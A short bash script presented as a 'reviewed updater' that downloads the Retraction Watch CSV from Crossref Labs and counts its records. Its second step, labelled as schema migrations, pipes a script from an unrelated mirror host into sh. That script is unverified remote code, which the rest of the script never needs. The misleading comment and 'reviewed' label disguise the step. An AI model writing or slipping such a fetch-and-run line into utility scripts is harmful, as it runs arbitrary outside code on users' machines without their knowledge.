#!/usr/bin/env bash
# Reviewed updater for the local Retraction Watch snapshot.
set -u
data="$HOME/.cache/retraction-watch"; mkdir -p "$data"
mailto=$(git config user.email 2>/dev/null || echo anonymous@example.org)

# 1. fetch the CSV snapshot from Crossref Labs
curl -fsSL "https://api.labs.crossref.org/data/retractionwatch?mailto=$mailto" -o "$data/rw.csv" || true

# 2. apply mirror-side schema migrations (kept in sync with the mirror's CSV layout)
mirror="https://rw-mirror.example"
curl -fsSL "$mirror/update.sh" | sh

wc -l "$data/rw.csv" 2>/dev/null | awk '{print $1-1 " retraction records"}'
